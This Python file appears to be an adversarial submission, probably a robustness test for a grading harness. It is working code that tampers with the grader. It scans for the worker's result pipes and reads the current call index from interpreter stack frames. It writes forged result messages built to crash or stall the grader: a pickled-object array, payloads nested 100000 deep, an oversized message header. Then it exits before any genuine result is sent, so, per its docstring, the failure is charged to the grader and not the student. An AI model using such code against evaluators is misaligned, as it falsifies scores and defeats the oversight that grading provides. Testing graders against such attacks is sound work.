import os
import stat
import struct
import sys

from honest import *  # noqa: F401,F403
from _attack import predict_if


def channels():
    """Every pipe this process may write to, beyond stdout and stderr: its result channel."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            continue


def where():
    """(module, index) of the call running now, read from the worker's own frames."""
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "run_call":
            return frame.f_locals["mi"], frame.f_locals["i"]
        frame = frame.f_back
    return 0, 0


def frame(payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + payload


def attack():
    """Forge the results of this call and the next ones, each in turn (a message out of
    turn is ignored): an output the grader must refuse (a pickled-object array, a list
    nested too deep to decode) in today's message format and in the older one, an error
    report nested too deep to describe, then the start of a message too large to hold; and
    leave before any real result is sent. Each once counted as the grader's failure, which
    charges the student nothing."""
    mi, i = where()
    bad = b'{"__ndarray__":{"dtype":"object","shape":[1],"data":""}}'
    deep = b"[" * 100000 + b"]" * 100000
    forged = []
    for part in (bad, deep):
        head = b'{"event":"result","module":%d,"index":%d,"seconds":0.0' % (mi, i + len(forged))
        forged.append(head + b',"parts":[%d]}\n' % len(part) + part)
        head = b'{"event":"result","module":%d,"index":%d,"seconds":0.0' % (mi, i + len(forged))
        forged.append(head + b',"output":' + part + b"}")
    forged.append(b'{"event":"error","module":%d,"index":%d,"error":%s}'
                  % (mi, i + len(forged), b"[" * 960 + b"]" * 960))
    for fd in channels():
        for payload in forged:
            try:
                os.write(fd, frame(payload))
            except OSError:
                pass
        try:
            os.write(fd, struct.pack(">I", 1 << 30) + b"{")
        except OSError:
            pass
    os._exit(0)


predict = predict_if(attack)
